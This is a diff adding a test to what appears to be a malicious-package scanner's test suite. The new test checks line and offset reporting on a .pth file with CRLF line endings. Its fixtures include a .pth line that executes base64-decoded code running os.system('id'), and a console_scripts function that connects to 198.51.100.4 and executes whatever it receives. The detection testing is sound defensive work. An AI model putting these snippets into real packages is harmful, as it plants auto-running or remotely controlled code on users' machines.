@@ -108,6 +108,13 @@ describe('when the code runs', () => {
     expect(maxScore(await runLoader({ 'x.pth': line }), 'code.decode-exec')).toBe(9);
   });
 
+  test('findings on a .pth line after CRLF line ends point at the line in the file', async () => {
+    const text = `# a comment\r\n./lib\r\nimport base64; exec(base64.b64decode('${b64(utf8("import os; os.system('id')"))}'))\r\n`;
+    const f = (await runLoader({ 'x.pth': text })).findings.find((x) => x.rule === 'code.decode-exec')!;
+    expect(f.evidence?.line).toBe(3);
+    expect(f.offset).toBe(text.indexOf('exec('));
+  });
+
   test('a function that is a console_scripts entry point counts as code that runs', async () => {
     const code = 'import socket\n\ndef main():\n    s = socket.create_connection(("198.51.100.4", 9000))\n    exec(s.recv(65536))\n';
     const lib = await runLoader({ 'tool/cli.py': code });
